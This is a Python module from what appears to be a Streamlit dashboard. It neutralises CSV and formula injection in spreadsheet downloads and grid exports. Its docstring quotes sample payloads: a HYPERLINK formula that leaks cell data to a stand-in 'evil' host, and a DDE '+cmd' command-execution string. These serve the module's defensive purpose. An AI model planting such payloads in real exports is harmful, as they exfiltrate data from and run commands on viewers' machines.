"""What the dashboards hand to a viewer's spreadsheet: CSV downloads whose text cells cannot run as
formulas (issue 18, docs/SECURITY.md).

A cell such as `=HYPERLINK("http://evil/?"&A1, "click")`, `+cmd|' /C calc'!A0` or `@SUM(A1:A9)`
comes from the exports (an account or deal name) and Excel, LibreOffice and Sheets would evaluate
it on opening the download. Text cells starting with = + - @, a tab or a carriage return get a
leading apostrophe, which spreadsheets show as text (OWASP's advice); numbers are left alone.
"""

from __future__ import annotations

import re

import pandas as pd
import polars as pl
import streamlit as st

from revintel_resources.text import md  # noqa: F401 (the pages import it from here)

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def neutralise(df: pl.DataFrame) -> pl.DataFrame:
    """Text columns with formula-like cells prefixed by an apostrophe."""
    pattern = "^[" + "".join("\\" + c if c in "-+" else c for c in FORMULA_PREFIXES) + "]"
    return df.with_columns(
        pl.when(pl.col(c).str.contains(pattern)).then(pl.lit("'") + pl.col(c)).otherwise(pl.col(c)).alias(c)
        for c, dtype in df.schema.items() if dtype == pl.String)


# What a page's grids show: Streamlit's own "Download as CSV" on every table writes its cells as shown,
# formulas live (an audit: a deal id =HYPERLINK(...) from Plan's table opened as a link in a
# spreadsheet). The same prefix as the downloads, except a signed number written as text ("-$1,500",
# "+12 %" in a formatted column), which no spreadsheet runs and which the apostrophe would only clutter.
_SIGNED_NUMBER = r"^[+-][0-9\s.,$€£¥%]*$"


def shown(df: pl.DataFrame) -> pl.DataFrame:
    """The frame as a page's grid shows it: formula-like text cells prefixed by an apostrophe."""
    def risky(c: str) -> pl.Expr:
        return pl.col(c).str.contains(r"^[=@\t\r]") | (pl.col(c).str.contains(r"^[+-]")
                                                        & ~pl.col(c).str.contains(_SIGNED_NUMBER))
    return df.with_columns(pl.when(risky(c)).then(pl.lit("'") + pl.col(c)).otherwise(pl.col(c)).alias(c)
                           for c, dtype in df.schema.items() if dtype == pl.String)


def dataframe(data, **kwargs):
    """st.dataframe through `shown`, a polars or a pandas frame (every page's grids go through here: the
    roll-up of Pipeline Risk, handed over as pandas, still exported a manager =HYPERLINK(...) live)."""
    if isinstance(data, pl.DataFrame):
        data = shown(data)
    elif isinstance(data, pd.DataFrame):
        data = shown(pl.from_pandas(data)).to_pandas()
    return st.dataframe(data, **kwargs)


def csv_bytes(df: pl.DataFrame) -> bytes:
    """The frame as a CSV download, formula cells neutralised, with a UTF-8 byte-order mark: Excel opens
    a CSV without one as the machine's ANSI code page ("Müller GmbH" read "MÃ¼ller GmbH")."""
    return neutralise(df).write_csv(include_bom=True).encode()


def code(value) -> str:
    """Any value as a Markdown code span (literal, monospace), whatever backticks it holds."""
    text = " ".join(str(value).split()) if value is not None else ""
    fence = "`" * (max((len(run) for run in re.findall(r"`+", text)), default=0) + 1)
    return f"{fence} {text} {fence}"
